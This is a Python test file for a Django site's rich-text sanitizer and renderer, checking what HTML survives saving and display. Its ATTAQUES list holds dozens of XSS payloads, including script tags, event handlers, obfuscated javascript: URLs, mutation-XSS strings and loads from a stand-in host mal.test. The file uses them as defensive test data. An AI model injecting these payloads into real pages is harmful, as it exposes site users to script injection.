"""What rich text keeps and loses, when saved and when shown."""

import json
import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django import forms
from django.conf import settings
from django.core.exceptions import ValidationError
from django.template import Context, Template

from actualites.models import Actualite
from mediatheque.images import FORMATS
from mediatheque.templatetags.texte_riche import rendre
from socle.ecriture import lignes_du_guide
from socle.editeur import Editeur
from socle.texte_riche import ATTRIBUTS, BALISES, TAILLE_MAX, ChampRiche, assainir, texte_brut
from tests.fabriques import ActualiteFabrique

IMAGE = "/media/images/53/5348121edc725f6e6b9c76ee8e9fc9dd-2000x1333.webp"

ATTAQUES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//mal.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<p onclick="alert(1)">a</p>',
    '<img src="/media/x.webp" onerror="alert(1)">',
    '<img/src="x"/onerror=alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" jAvAsCrIpT:alert(1)">a</a>',
    '<a href="java&#9;script:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="&#106;avascript&colon;alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<a href="vbscript:x">a</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<style>@import url(//mal.test)</style>",
    '<p style="background:url(//mal.test)">a</p>',
    '<iframe src="https://mal.test" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="//mal.test"><input name="a"><button formaction="javascript:alert(1)">b</button></form>',
    '<meta http-equiv="refresh" content="0;url=//mal.test">',
    '<base href="//mal.test"><link rel="stylesheet" href="//mal.test">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<p id="corps" name="x" class="bandeau" data-x="1" hx-get="/x">a</p>',
    '<figure class="media"><oembed url="javascript:alert(1)"></oembed></figure>',
    '<p lang="fr&quot; onclick=&quot;alert(1)">a</p>',
    '<img src="/media/a.webp&quot; onerror=&quot;alert(1)">',
    '<img src="/media/a.webp" alt="&quot;><script>alert(1)</script>">',
    '<video src="x" onerror="alert(1)"></video><audio src="//mal.test"></audio>',
]


class Relevé(HTMLParser):
    """Lists every tag and attribute a browser would meet."""

    def __init__(self, texte):
        super().__init__()
        self.balises = []
        self.feed(texte)

    def handle_starttag(self, balise, attributs):
        self.balises.append((balise, dict(attributs)))


def verifier(texte, *, en_plus=frozenset()):
    """Fail unless every tag, attribute and address of `texte` is on the list."""
    for balise, attributs in Relevé(texte).balises:
        assert balise in BALISES | ({"div"} if en_plus else set())
        permis = ATTRIBUTS["*"] | ATTRIBUTS.get(balise, set()) | {"class"} | en_plus
        assert set(attributs) <= permis, attributs
        for nom in ("href", "src", "url"):
            adresse = attributs.get(nom, "/")
            assert re.match(r"(https?:|mailto:|tel:|/|[\w#?.])", adresse), adresse
            assert not re.match(r"\s*(javascript|data|vbscript)", re.sub(r"\s", "", adresse), re.IGNORECASE), adresse


@pytest.mark.parametrize("attaque", ATTAQUES)
def test_nothing_dangerous_stays(attaque):
    propre = assainir(attaque)
    verifier(propre)
    verifier(
        rendre(attaque),
        en_plus={"role", "aria-label", "tabindex", "loading", "decoding", "srcset", "sizes", "target", "rel"},
    )


@pytest.mark.parametrize("attaque", ATTAQUES)
def test_cleaning_twice_changes_nothing(attaque):
    """A text that moves at the second cleaning is the sign of a mutation attack."""
    assert assainir(assainir(attaque)) == assainir(attaque)


def test_the_content_of_scripts_and_styles_goes_too():
    assert assainir("a<script>b</script><style>c</style><iframe>d</iframe><svg><text>e</text></svg>f") == "af"


def test_an_unknown_tag_leaves_its_text():
    assert assainir("<label><font>Bonjour</font></label>") == "Bonjour"


@pytest.mark.parametrize(
    ("texte", "attendu"),
    [
        ("<h1>A</h1><h1>B</h1><p>c</p>", "<h2>A</h2><h2>B</h2><p>c</p>"),
        ("<h1>A</h1><h2>B</h2><h3>C</h3><h4>D</h4><h6>E</h6>", "<h2>A</h2><h3>B</h3><h4>C</h4><h4>D</h4><h4>E</h4>"),
        ('<H1 class="western" lang="en">A</H1>', '<h2 lang="en">A</h2>'),
        ("<h5>A</h5><h2>B</h2>", "<h4>A</h4><h2>B</h2>"),
        ("<div>A</div><div>B</div>", "<p>A</p><p>B</p>"),
        ("<div><p>A</p><div>B<ul><li>c</li></ul></div></div>", "<p>A</p><p>B</p><ul><li>c</li></ul>"),
        ("<dl><dt>Terme</dt><dd>Sens</dd></dl>", "<p>Terme</p><p>Sens</p>"),
        ("<address>A</address><section>B</section><pre>C</pre>", "<p>A</p><p>B</p><p>C</p>"),
        ("<ul><li><div>A</div></li></ul>", "<ul><li><p>A</p></li></ul>"),
        (
            "<table><tbody><tr><td><div>A</div></td></tr></tbody></table>",
            "<table><tbody><tr><td><p>A</p></td></tr></tbody></table>",
        ),
    ],
)
def test_blocks_of_other_editors_become_ours_and_are_never_glued(texte, attendu):
    assert assainir(texte) == attendu
    assert assainir(attendu) == attendu


@pytest.mark.parametrize(
    ("texte", "attendu"),
    [
        ('<p><a href="#_Toc12">a</a><a href="#_ftn1"><sup>1</sup></a></p>', "<p>a<sup>1</sup></p>"),
        ('<p><a href="file:///C:/a.docx">a</a> <a name="b">b</a></p>', "<p>a b</p>"),
        ('<p><a lang="en" href="javascript:x">a</a> <a href="/b/">b</a></p>', '<p>a <a href="/b/">b</a></p>'),
    ],
)
def test_a_link_that_leads_nowhere_leaves_its_words(texte, attendu):
    assert assainir(texte) == attendu


def test_a_numbered_list_keeps_its_start_and_its_kind_if_it_is_one():
    assert assainir('<ol start="3" type="a"><li>a</li></ol>') == '<ol start="3" type="a"><li>a</li></ol>'
    assert assainir('<ol reversed=""><li>a</li></ol>') == '<ol reversed=""><li>a</li></ol>'
    assert assainir('<ol type="disc" start="x"><li>a</li></ol><ul type="a"><li>b</li></ul>') == (
        "<ol><li>a</li></ol><ul><li>b</li></ul>"
    )


# --- One description for the cleaner, the editor and the guide ---------------------------------------------------------------


def test_the_guide_says_what_may_be_written():
    guide = (settings.BASE_DIR / "docs" / "guide-redaction.md").read_text()
    assert lignes_du_guide() in guide, f"docs/guide-redaction.md is to hold:\n{lignes_du_guide()}"


@pytest.mark.parametrize(("envoi", "court"), [(True, False), (False, True)])
def test_the_editor_is_given_what_the_cleaner_keeps(envoi, court):
    rendu = Editeur(envoi=envoi, court=court).render("corps", "")
    regles = json.loads(unescape(re.search(r'data-regles="([^"]*)"', rendu)[1]))
    assert {f"h{niveau}" for niveau, _ in regles["titres"]} == {balise for balise in BALISES if re.fullmatch(r"h\d", balise)}
    assert ("ImageUpload" in regles["extensions"]) is ("uploadImage" in regles["barre"]) is envoi
    assert ("insertTable" in regles["barre"]) is not court
    # What staff wrote is not lost where a member edits with a short toolbar.
    assert {"Table", "ImageBlock", "MediaEmbed", "ListProperties"} <= set(regles["extensions"])
    for schema in regles["schemas"]:
        assert assainir(f'<a href="{schema}:x">a</a>') == f'<a href="{schema}:x">a</a>'
    for genre in regles["numerotations"]:
        assert assainir(f'<ol type="{genre}"></ol>') == f'<ol type="{genre}"></ol>'
    assert tuple(nom.upper() for nom in regles["formats"]) == FORMATS


@pytest.mark.parametrize(
    "texte",
    [
        "<h2>Titre</h2><h3>Sous-titre</h3><h4>Intertitre</h4>",
        '<ul><li>un</li></ul><ol start="3"><li>trois</li></ol>',
        "<p><strong>a</strong><em>b</em><i>c</i>1<sup>er</sup> H<sub>2</sub>O<br>d</p><hr>",
        "<blockquote><p>cité</p></blockquote>",
        '<p><a href="https://exemple.test/?a=1&amp;b=2">a</a><a href="/agenda/">b</a><a href="#bas">c</a></p>',
        '<p><a href="mailto:a@exemple.test">a</a><a href="tel:+33153416161">b</a></p>',
        f'<figure class="image image-style-side"><img src="{IMAGE}" alt="Vue" width="20" height="13"></figure>',
        '<figure class="image"><img src="/static/img/a.png"><figcaption>Légende</figcaption></figure>',
        '<figure class="table"><table><thead><tr><th scope="col">a</th></tr></thead></table></figure>',
        '<table><tbody><tr><td colspan="2" rowspan="2">b</td></tr></tbody></table>',
        '<figure class="media"><oembed url="https://www.youtube.com/watch?v=a"></oembed></figure>',
        '<p>dit <span lang="ar" dir="rtl">سلام</span>, <span lang="pt-BR">olá</span></p>',
        "<p>Il dit&nbsp;: «&nbsp;oui&nbsp;»</p>",
    ],
)
def test_what_the_editor_writes_is_kept(texte):
    assert assainir(texte) == texte


@pytest.mark.parametrize(
    "adresse",
    [
        "https://mal.test/pixel.png",
        "//mal.test/pixel.png",
        "/media/../comptes/deconnexion/",
        "/media/%2e%2e/comptes/deconnexion/",
        "/comptes/deconnexion/",
        "media/a.webp",
        "/media/a.webp?x=1",
        "/mediatheque/a.webp",
    ],
)
def test_an_image_from_elsewhere_is_removed(adresse):
    assert assainir(f'<p>a<img alt="x" src="{adresse}">b</p>') == "<p>ab</p>"


def test_an_image_of_ours_stays():
    assert assainir('<img src="/static/img/logo.png">') == '<img src="/static/img/logo.png">'


def test_plain_text_separates_blocks():
    texte = "<h2>Titre</h2><p>Il&nbsp;dit <strong>« oui</strong> » &amp; &lt;b&gt;</p><ul><li>un</li><li>deux</li></ul>"
    assert texte_brut(texte) == "Titre Il\u00a0dit « oui » & <b> un deux"
    assert texte_brut("<p>a</p><script>b</script>") == "a"
    assert texte_brut("") == ""


# --- Saving ------------------------------------------------------------------------------------------------------------------

SALE = "<p>a</p><script>alert(1)</script>"


@pytest.mark.django_db
def test_saving_cleans_and_puts_the_value_back_on_the_object():
    actualite = ActualiteFabrique(corps=SALE)
    assert actualite.corps == "<p>a</p>"
    actualite.refresh_from_db()
    assert actualite.corps == "<p>a</p>"


@pytest.mark.django_db
def test_bulk_create_cleans():
    Actualite.objects.bulk_create([ActualiteFabrique.build(corps=SALE)])
    assert Actualite.objects.get().corps == "<p>a</p>"


@pytest.mark.django_db
def test_update_does_not_clean_but_display_does():
    actualite = ActualiteFabrique()
    Actualite.objects.update(corps=SALE)
    actualite.refresh_from_db()
    assert actualite.corps == SALE
    page = Template("{% load texte_riche %}{{ corps|riche }}|{{ corps|brut }}").render(Context({"corps": actualite.corps}))
    assert page == "<p>a</p>|a"


def test_the_field_takes_the_editor_even_if_the_admin_asks_for_its_own():
    champ = ChampRiche()
    assert isinstance(champ.formfield(widget=forms.Textarea).widget, Editeur)
    sans_envoi = Editeur(envoi=False)
    assert champ.formfield(widget=sans_envoi).widget.attrs == sans_envoi.attrs


def test_the_editor_says_where_to_send_images_or_does_not():
    assert 'data-envoi="/images/envoi/"' in str(Editeur().render("corps", ""))
    assert "data-envoi" not in str(Editeur(envoi=False).render("corps", ""))


def test_the_editor_escapes_the_text():
    assert "<script>" not in Editeur(envoi=False).render("corps", "</textarea><script>")


# --- Showing -----------------------------------------------------------------------------------------------------------------


def test_a_table_scrolls_alone_and_by_keyboard():
    rendu = rendre("<table><thead><tr><th>a</th></tr></thead><tbody><tr><th>b</th><td>c</td></tr></tbody></table><table></table>")
    assert rendu.startswith('<div class="tableau-defilant" role="group" aria-label="Tableau 1" tabindex="0"><table>')
    assert '<th scope="col">a</th>' in rendu
    assert '<th scope="row">b</th>' in rendu
    assert 'aria-label="Tableau 2"' in rendu
    assert rendu.count("<div") == rendu.count("</div>") == 2


def test_a_table_within_a_table_keeps_right_tags():
    rendu = rendre("<table><tbody><tr><td><table><tbody><tr><td>a</td></tr></tbody></table></td></tr></tbody></table>")
    assert rendu.count("<div") == rendu.count("</div>") == 1
    assert rendu.endswith("</table></div>")


def test_a_video_becomes_a_link():
    rendu = rendre('<figure class="media"><oembed url="https://www.youtube.com/watch?v=a&amp;t=1"></oembed></figure>')
    assert rendu == (
        '<figure class="media"><a class="lien-video" href="https://www.youtube.com/watch?v=a&amp;t=1" target="_blank"'
        ' rel="noopener">Voir la vidéo sur youtube.com (nouvelle page)</a></figure>'
    )


def test_the_name_of_the_video_s_site_is_where_one_goes():
    assert "sur mal.test (nouvelle page)" in rendre('<oembed url="https://youtube.com@mal.test/"></oembed>')


def test_an_image_has_its_sizes_and_waits_for_its_turn():
    rendu = rendre(f'<img src="{IMAGE}" alt="A &gt; B">')
    _, attributs = Relevé(rendu).balises[0]
    racine = IMAGE.removesuffix(".webp")
    assert attributs["srcset"] == f"{racine}.l480.webp 480w, {racine}.l960.webp 960w, {racine}.l1600.webp 1600w, {IMAGE} 2000w"
    assert (attributs["width"], attributs["height"]) == ("2000", "1333")
    assert (attributs["loading"], attributs["alt"]) == ("lazy", "A > B")


def test_an_image_without_variants_keeps_its_dimensions():
    rendu = rendre('<img src="/static/img/a.png" width="30" height="20">')
    assert rendu == '<img src="/static/img/a.png" width="30" height="20" alt="" loading="lazy" decoding="async">'


def test_nothing_shows_for_nothing():
    assert Template("{% load texte_riche %}[{{ a|riche }}{{ a|brut }}]").render(Context({"a": None})) == "[]"


@pytest.mark.parametrize(
    ("texte", "mots"),
    [
        ("a" * (TAILLE_MAX + 1), "trop long"),
        ("<blockquote>" * 51, "imbriquée"),
        ("<ul><li>" * 51, "imbriquée"),
        ("<INCONNUE>" * 51, "imbriquée"),
    ],
)
def test_a_text_too_long_or_too_nested_is_refused_before_it_is_cleaned(texte, mots):
    with pytest.raises(ValidationError, match=mots):
        Actualite._meta.get_field("corps").clean(texte, None)


@pytest.mark.parametrize(
    "texte", ["a" * TAILLE_MAX, "<p>a <b>b</b></p>" * 200, "<p>" * 200, "<ul>" + "<li>a" * 200, "</ul>" * 99]
)
def test_a_long_but_flat_text_is_accepted(texte):
    assert Actualite._meta.get_field("corps").clean(texte, None) == texte


def test_a_picture_is_named_by_its_caption():
    image = '<img src="/static/img/a.png" alt="Vue">'
    for contenu in (image, f'<a href="https://exemple.test/">{image}</a>'):
        rendu = rendre(f'<figure class="image">{contenu}<figcaption>La <strong>mairie</strong> &lt; "1900"</figcaption></figure>')
        assert rendu.startswith('<figure class="image" role="figure" aria-label="La mairie &lt; &quot;1900&quot;">')
    assert 'role="figure"' not in rendre(f'<figure class="image">{image}</figure><figure class="image">{image}</figure>')
    deux = f'<figure class="image">{image}</figure><figure class="image">{image}<figcaption>B</figcaption></figure>'
    assert rendre(deux).startswith('<div class="galerie"><figure class="image"><a')
    assert rendre(deux).count('role="figure" aria-label="B"') == 1


def test_a_table_has_its_caption_for_title():
    tableau = "<table><tbody><tr><td>a</td></tr></tbody></table>"
    rendu = rendre(f'<figure class="table">{tableau}<figcaption>Les <em>villes</em></figcaption></figure>')
    assert '<table aria-label="Les villes">' in rendu
    assert "<table>" in rendre(f'<figure class="table">{tableau}</figure>')
